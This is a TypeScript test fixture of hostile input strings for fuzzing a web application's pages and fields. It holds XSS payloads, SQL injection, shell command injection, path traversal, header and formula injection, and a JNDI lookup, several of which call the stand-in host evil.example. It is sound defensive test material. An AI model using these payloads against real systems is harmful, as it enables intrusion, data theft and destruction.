/**
 * Two hundred texts that somebody might send to do harm, or that do harm though nobody meant it: by what they attack.
 * A page that took one for more than text would call `out()`, or ask evil.example for something.
 */
export const HOSTILE = {
  /** Leaves the place it stands in, and starts a script there. */
  script: [
    `<script>out()</script>`,
    `<SCRIPT SRC="//evil.example/s.js"></SCRIPT>`,
    `</title><script>out()</script><title>`,
    `</textarea><script>out()</script>`,
    `</style><script>out()</script>`,
    `</script><script>out()</script>`,
    `<scr<script>ipt>out()</scr</script>ipt>`,
    `<script/defer>out()</script/x>`,
    `<script type="module">out()</script>`,
    `-->'"/></option></select></form><script>out()</script>`,
    `<!--<img alt="--><script>out()</script>">`,
    `<noscript><p title="</noscript><script>out()</script>">`,
    `\`;out();//`,
    `'-out()-'`,
    `\\";out();//`,
    `<iframe srcdoc="<script>parent.out()</script>">`,
    `<iframe src="javascript:parent.out()"></iframe>`,
    `<object data="data:text/html,<script>opener.out()</script>"></object>`,
  ],
  /** Brings an event handler along, or closes the attribute that it stands in. */
  handlers: [
    `<img src=x onerror=out()>`,
    `"><img src=x onerror=out()>`,
    `'><img src=x onerror=out()>`,
    `" autofocus onfocus="out()" x="`,
    `' autofocus onfocus='out()' x='`,
    `x onmouseover=out() y=`,
    `<a onmouseover="out()" href="#">over here</a>`,
    `<body onload=out()>`,
    `<details open ontoggle=out()><summary>more</summary></details>`,
    `<video autoplay onloadstart=out() src=/x><source onerror=out()></video>`,
    `<input autofocus onfocus=out()>`,
    `<select autofocus onfocus=out()><option>one</select>`,
    `<div style="animation:a 1s" onanimationstart=out()>moves</div>`,
    `<button form="x" formaction="javascript:out()" autofocus onfocus=out()>press</button>`,
    `<dialog open oncancel=out()><form method=dialog><button autofocus>ok</dialog>`,
    `<div popover id=p onbeforetoggle=out()>up</div><button popovertarget=p>up</button>`,
    `\u2033 onclick=\u2033out()\u2033 \uFF02 onclick=\uFF02out()`,
    `<img src=x:x onerror\u000B=out()><img/src=x\u000Conerror=out()>`,
  ],
  /** Means something else to a reader of Markdown than to one of HTML. */
  markdown: [
    `[press](javascript:out())`,
    `[press](JaVa\tScRiPt:out())`,
    `[press](<javascript:out()>)`,
    `[press](java&#x09;script:out())`,
    `[press](\u0001javascript:out())`,
    `[press][it]\n\n[it]: javascript:out() "x"`,
    `![x](x"onerror="out())`,
    `![x](https://evil.example/i.png"onload="out())`,
    `[a](https://e.example/"onmouseover="out() 'b"onclick="out()')`,
    `<javascript:out()> and <https://e.example/"onclick="out()>`,
    `[![x](javascript:out())](data:text/html,<script>out()</script>)`,
    `\`\`\`"><script>out()</script>\ncode\n\`\`\``,
    `\`</code><script>out()</script>\``,
    `    </pre><script>out()</script>`,
    `| a |\n| --- |\n| </td></table><script>out()</script> |`,
    `<kbd onclick=out()>Ctrl</kbd> <sub><img src=x onerror=out()></sub>`,
    `<sup></sup></article></main><h1>the page</h1>`,
    `&lt;script&gt;out()&lt;/script&gt; &amp;lt;img src=x onerror=out()&amp;gt;`,
    `<!-- a comment that never ends, and <script>out()</script>`,
    `<![CDATA[ ]]><script>out()</script>`,
    `@<script>out()</script> @"><img src=x onerror=out()>`,
    `[x]: https://evil.example/"><script>out()</script>\n[x]`,
    `${'['.repeat(60)}press${'](javascript:out())'.repeat(6)}`,
  ],
  /** An address that leads elsewhere than it seems, or does something by itself. */
  addresses: [
    `javascript:out()//`,
    ` javascript:out()`,
    `java\nscript:out()`,
    `data:text/html;base64,PHNjcmlwdD5wYXJlbnQub3V0KCk8L3NjcmlwdD4=`,
    `vbscript:out()`,
    `//evil.example/%2e%2e`,
    `/\\evil.example/a`,
    `\\\\evil.example\\share`,
    `/\t/evil.example`,
    `https:evil.example`,
    `https://kundig.example@evil.example/`,
    `https://evil.example\\@kundig.example/`,
    `http://[::1]:5432/ http://169.254.169.254/latest/`,
    `https://\u0430pple.example/ https://evil\u3002example/`,
    `?next=//evil.example&after=1#<script>out()</script>`,
  ],
  /** Changes when it is read a second time, or belongs to another language than HTML. */
  mutation: [
    `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=out()&gt;">`,
    `<svg><p><style><g title="</style><img src=x onerror=out()>">`,
    `<svg/onload=out()>`,
    `<svg><script>out()</script></svg>`,
    `<svg><a xlink:href="javascript:out()"><text y=20>press</text></a></svg>`,
    `<svg><foreignObject><iframe onload=out()></foreignObject></svg>`,
    `<svg><use href="data:image/svg+xml,<svg id=x onload=out()>#x"></use></svg>`,
    `<math href="javascript:out()">press</math>`,
    `<form><math><mtext></form><form><mglyph><style></math><img src onerror=out()>`,
    `<table><td><form action="//evil.example"><input name=password></table>`,
    `<template><script>out()</script></template><slot onslotchange=out()>`,
    `<img srcset="x, https://evil.example/2.png 2x" src=x onerror=out()>`,
    `<picture><source srcset="https://evil.example/s.png"><img onerror=out() src=x></picture>`,
    `<link rel=stylesheet href=//evil.example/c.css><link rel=prefetch href=//evil.example/p>`,
    `<style>@import "//evil.example/i.css"; * { display: none }</style>`,
    `<div style="background:url(//evil.example/b.png);position:fixed;inset:0;z-index:9">all over</div>`,
    `<base href="//evil.example/"><base target=out>`,
    `<meta http-equiv="refresh" content="0;url=//evil.example/r">`,
    `<form id=x action=//evil.example></form><input form=x name=getElementById>`,
    `<img name=body><img id=location><form name=forms><input name=cookie></form>`,
    `<plaintext>the rest of the page is text from here on`,
    `<xmp><p title="</xmp><script>out()</script>">`,
    `</main></body></html><h1>another page</h1>`,
  ],
  /** Entities, whole, halved and twice over. */
  entities: [
    `&#60;script&#62;out()&#60;/script&#62;`,
    `&#x3C;img src=x onerror=out()&#x3E;`,
    `&lt &gt &amp &quot &notit; &copy`,
    `&#0;&#xD800;&#x10FFFF;&#x110000;&#99999999999;`,
    `&amp;amp;lt;b&amp;amp;gt;`,
    `&NewLine;&Tab;&colon;&lpar;&rpar;&lbrace;`,
    `&zwj;&zwnj;&shy;&lrm;&rlm;&nbsp;`,
    `%3Cscript%3Eout()%3C%2Fscript%3E %253Cb%253E`,
  ],
  /** What Unicode can do: turn round, pile up, hide, look alike. */
  unicode: [
    `\u202Egnp.exe\u202C turned round`,
    `\u2066\u2067\u2068 isolates that never end`,
    `\u05D0\u05D1\u05D2 123 abc \u05D3\u05D4\u05D5`,
    `\u0645\u0631\u062D\u0628\u0627 \u0628\u0643\u0645 \u0661\u0662\u0663`,
    `in\u200Bvi\u200Csi\u200Dble \u2060seams\uFEFF`,
    `\uFEFFa mark in front`,
    `soft\u00ADhy\u00ADphens`,
    `\u3164\u115F\u1160\uFFA0\u2800`,
    `\u2028line and \u2029paragraph separators`,
    `\u0085next line\u00A0and no break\u202Fnarrow\u3000wide`,
    `Z${'\u0351\u0300\u0317\u0489'.repeat(20)}a${'\u0336'.repeat(60)}lgo`,
    `e\u0301 and \u00E9, \u212B and \u00C5 and A\u030A`,
    `\u1E9B\u0323 \uFB01 \u2460 \u33A5 \uFDFA`,
    `\u{1D593}\u{1D594}\u{1D597}\u{1D592}\u{1D586}\u{1D591} \u{1D7D8}\u{1D7D9}`,
    `\u0130stanbul \u0131\u015F\u0131k \u1E9E\u00DF \u01C5`,
    `\u{1F468}\u200D\u{1F469}\u200D\u{1F467}\u200D\u{1F466} \u{1F3F4}\u{E0067}\u{E0062}\u{E0065}\u{E006E}\u{E0067}\u{E007F}`,
    `${'\u{1F468}\u200D'.repeat(30)}\u{1F466}`,
    `\u{1F1E9}\u{1F1EA}\u{1F1E9} \u{1F44D}\u{1F3FF} \u2764\uFE0F\u2764\uFE0E`,
    `\uFFFE \uFFFF \u{1FFFE} \uFDD0 no characters`,
    `\uE000\uF8FF\u{F0000}\u{10FFFD} private ones`,
    `\uFFFD\uFFFC\uFFF9notes\uFFFAbelow\uFFFB`,
    `\u{E0001}\u{E0041}\u{E0042} tags nobody sees`,
    `\u0430\u0501m\u0456n who is none`,
    `\uFF1Cscript\uFF1Eout()\uFF1C/script\uFF1E`,
    `\u02BA\u02B9\u2039img src=x onerror=out()\u203A`,
    `\u0F3C \u0CA0_\u0CA0 \u0F3D \u30C4 \u{12031}\u{1242B}`,
    `\u{20BB7}\u91CE\u5BB6 \u845B\u{E0100} \u4E2D\u6587\uFF0C\u65E5\u672C\u8A9E\u3001\uD55C\uAD6D\uC5B4`,
    `\u0627${'\u0610'.repeat(40)} marks above`,
    `\u2062\u2063\u2064 sums \u061C\u200E\u200F marks`,
    `\u{1F600}`.repeat(45),
  ],
  /** Means something to PostgreSQL. */
  sql: [
    `'; drop table post; --`,
    `' or '1'='1' /*`,
    `") union select null, version() --`,
    `%' or title like '%`,
    `100% _under_ \\% \\_ percent`,
    `$1 $$2$$ :name ?::text @> {}`,
    `\\'; select pg_sleep(9); --`,
    `a & b | !c <-> (d:*) :: tsquery`,
    `{"a","b\\"c",NULL}`,
    `(?i)^(a+)+$ [[:alpha:]] \\m \\M`,
    `E'\\x00' U&'\\0000' x'00'`,
  ],
  /** Means something to a program that reads or fills in. */
  programs: [
    `{"__proto__": {"isAdmin": true}}`,
    `__proto__`,
    `constructor.prototype.toString`,
    `"} { viewer { id } } #"`,
    `{ __schema { types { name } } }`,
    `$input: String! @include(if: true)`,
    `{{7*7}} \${7*7} <%= 7*7 %> #{7*7} {7*7}`,
    `{{constructor.constructor("out()")()}}`,
    `\${jndi:ldap://evil.example/a}`,
    `%s %d %n %x %@ {0} {name}`,
    `$& $\` $' $1 $$ \\1 \\0`,
    `$(touch x) \`touch x\` ; touch x | cat && id`,
    `undefined null NaN true false None`,
    `[object Object] [native code]`,
  ],
  /** Means something to a file system, a table or a mail. */
  outside: [
    `../../../../etc/passwd`,
    `..\\..\\windows\\win.ini`,
    `%2e%2e%2f%2e%2e%2fetc%2fpasswd`,
    `CON.txt LPT1 nul.`,
    `.htaccess ~/.ssh/id x.php.png`,
    `=HYPERLINK("//evil.example","press")`,
    `=cmd|' /C calc'!A0`,
    `+1+1 and -1-1`,
    `\t=1+1;"a","b"\n"c"`,
    `a\r\nSet-Cookie: kundig=stolen`,
    `a\nBcc: all@evil.example\n\nHello`,
    `a\r\n\r\n<script>out()</script>`,
    `a%0d%0aLocation:%20//evil.example`,
    `"; filename="evil.html"; x="`,
    `=?utf-8?B?PHNjcmlwdD4=?= <all@evil.example>`,
    `a@b.example, all@evil.example; "x" <y@evil.example>`,
    `kundig=stolen; Path=/; Max-Age=99`,
    `"a b"@evil.example`,
  ],
  /** Control characters that text can hold. */
  controls: [
    `bell\u0007 and back\u0008space`,
    `\u001B[31mred\u001B[0m \u001B]8;;//evil.example\u0007press`,
    `a\u0001b\u0002c\u001F\u007F\u009B`,
    `line\rover line\r\nand\n\n\n\nmore`,
    `\t\ttabs \u000B\u000C between`,
    `   blanks at both ends   `,
  ],
  /** Numbers, dates and words that are none, or far too much of it. */
  limits: [
    `99999999999999999999999999999999`,
    `-0 1e309 0x10 1_000 ١٢٣ NaN Infinity`,
    `0000-00-00T25:61:61Z 2026-02-30 99999-12-31`,
    `x'\u00E4\u00F6\u00FC\u00DF'@\u00FCml\u00E4ut.example`,
    `w${'o'.repeat(150)}rd without a break`,
    `${'(('.repeat(40)}${'**_'.repeat(20)}`,
    `${'> '.repeat(90)}deep`,
    `${'- '.repeat(90)}deep`,
    'long text, '.repeat(300),
    '\u0e01\u0e4a'.repeat(400),
  ],
  /** No text at all: no database and no UTF-8 holds it. */
  unstorable: [
    `a NUL \u0000 within the text`,
    `\u0000`,
    `half of a pair \uD83D here`,
    `the other half \uDE00 here`,
    `\uDE00\uD83D the wrong way round`,
    `a half at the very end \uD800`,
  ],
} as const satisfies Record<string, readonly string[]>;

/** All of them, in this order. */
export const STRINGS: readonly string[] = Object.values(HOSTILE).flat();

const WAYS_OUT = ['', '">', "'>", '</p>', '</textarea>', '<svg>', '<math><mtext>', '`', '[x](https://e.example/ "', '&quot;&gt;'];
const ACTS = [
  '<img src=x onerror=out()>', '<svg/onload=out()>', '<a href="javascript:out()">x</a>', '<script>out()</script>', '<iframe src=javascript:parent.out()></iframe>',
  '<details open ontoggle=out()>x</details>', '<input autofocus onfocus=out()>', '<style onload=out()></style>', '<form><button formaction=javascript:out()>x</button></form>', '<img src=//evil.example/i.png>',
];

/** A hundred more for the pages that show posts: each way out of where a text stands, with each thing to do there. */
export const CROSSED: readonly string[] = WAYS_OUT.flatMap((way) => ACTS.map((act) => way + act));

const SEED = Number(process.env.KUNDIG_SEED ?? 20261122);

/** So many of them, others for each place: all are tried somewhere. Another seed, others. */
export function shareOf(place: string, size: number, texts: readonly string[] = STRINGS): string[] {
  const start = [...place].reduce((sum, letter) => (sum * 31 + letter.codePointAt(0)!) % 65_521, SEED % 65_521);
  return Array.from({ length: size }, (_, n) => texts[(start + n * 37) % texts.length]!);
}

/** Whether it is text at all; what is not, no field takes. */
export function isStorable(text: string): boolean {
  return !text.includes('\0') && text.isWellFormed();
}
